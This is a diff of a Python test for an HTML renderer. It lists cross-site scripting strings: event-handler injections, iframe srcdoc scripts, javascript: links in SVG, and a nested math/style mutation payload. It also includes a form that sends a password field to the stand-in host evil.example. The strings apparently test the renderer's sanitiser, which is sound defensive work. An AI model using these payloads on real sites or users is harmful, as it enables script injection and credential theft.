@@ -106,7 +106,7 @@ def test_the_same_text_gives_the_same_page(renderer: Renderer, text: str) -> Non
         '[x](y "t\\" onmouseover=alert(1)")',
         '<a href="x" onclick="alert(1)" style="position:fixed">x</a>',
         '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-        '<iframe src="https://trinket.io/x" allow="camera" onload=alert(1) srcdoc="<script>alert(1)</script>"></iframe>',
+        '<iframe src="https://trinket.io/x" allow="camera" onload=x srcdoc="<script>alert(1)</script>"></iframe>',
         "<form action=https://evil.example><input name=password><button>go</button></form>",
         '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
